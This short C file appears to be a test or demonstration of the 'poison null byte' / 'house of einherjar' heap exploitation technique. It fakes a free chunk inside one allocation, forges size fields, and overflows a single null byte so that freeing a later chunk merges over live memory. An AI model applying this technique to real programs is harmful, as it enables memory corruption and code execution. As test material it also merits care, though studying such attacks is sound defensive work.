// One zero byte behind a block says of the next that its neighbour is free; words inside of the block lie about how large
// that neighbour is. ("poison null byte", "house of einherjar")
// attack:
#include "error.h"

int main(void) {
    uint64_t *a = hide(malloc(0x38)), *b = hide(malloc(0x28)), *c = hide(malloc(0x4f8)), *last = hide(malloc(0x20));
    // A false free block inside of a, its own neighbour in the list.
    a[1] = 0x60, a[2] = a[3] = (uint64_t)(uintptr_t)a;
    b[4] = 0x60;
    put(b, 0x28, 1, 0);
    free(c);
    memset(malloc(0x158), 1, 0x158);
    hide(last);
    return end();
}
